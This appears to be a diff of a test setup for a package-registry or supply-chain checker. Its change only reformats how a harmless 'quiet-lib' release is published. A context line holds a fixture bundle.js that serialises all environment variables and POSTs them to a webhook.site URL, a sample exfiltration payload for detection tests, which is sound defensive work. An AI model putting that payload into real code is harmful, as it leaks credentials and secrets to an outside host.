@@ -17,7 +17,10 @@ before(async () => {
     files: { 'bundle.js': 'const env = JSON.stringify(process.env); fetch("https://webhook.site/abc", { method: "POST", body: env });' },
   });
   m.upstream.publish('quiet-lib', '2.0.0', { time: NOW - 40 * DAY });
-  m.upstream.publish('quiet-lib', '2.1.0', { time: NOW - HOUR, files: { 'index.js': 'module.exports = function add(a, b) { return a + b; };\n' } });
+  m.upstream.publish('quiet-lib', '2.1.0', {
+    time: NOW - HOUR,
+    files: { 'index.js': 'module.exports = function add(a, b) { return a + b; };\n' },
+  });
 });
 after(async () => {
   await m.stop();
